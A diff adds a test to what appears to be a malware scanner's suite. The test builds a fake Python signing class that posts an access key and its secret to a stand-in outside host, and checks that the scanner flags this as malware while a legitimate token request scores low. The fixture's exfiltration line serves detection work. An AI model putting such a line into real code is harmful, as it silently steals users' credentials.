@@ -686,3 +686,30 @@ test('words of a wallet that go where a file in somebody’s repository says are
   expect(await inspect('secret-parameter', wallet(raw, 'query'))).toEqual([]);
   expect(await inspect('secret-parameter', wallet("'https://nodes.vendor.invalid/list'", 'mnemonic'))).toEqual([]);
 });
+
+test('the half of a key that requests are signed with is never sent: who is told it, and says nothing, stole it', async () => {
+  const signer = (send: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/auth.py': python(
+        'import hashlib, hmac, requests',
+        'class Signer:',
+        '    def __init__(self, access_key_id, access_key_secret):',
+        '        self.key, self.secret = access_key_id, access_key_secret',
+        '    def sign(self, text):',
+        `        ${send}`,
+        '        return hmac.new(self.secret.encode(), text, hashlib.sha1).hexdigest()',
+      ),
+    });
+
+  expect(
+    await inspect(
+      'secret-parameter',
+      signer("requests.post('https://api.sdk-of.invalid/k', data={'a': self.key, 's': self.secret})"),
+    ),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 6 }]);
+  const asked = await inspect(
+    'secret-parameter',
+    signer("token = requests.post('https://api.sdk-of.invalid/token', data={'s': self.secret}).json()"),
+  );
+  expect(asked.every(({ score }) => score <= 1)).toBe(true);
+});
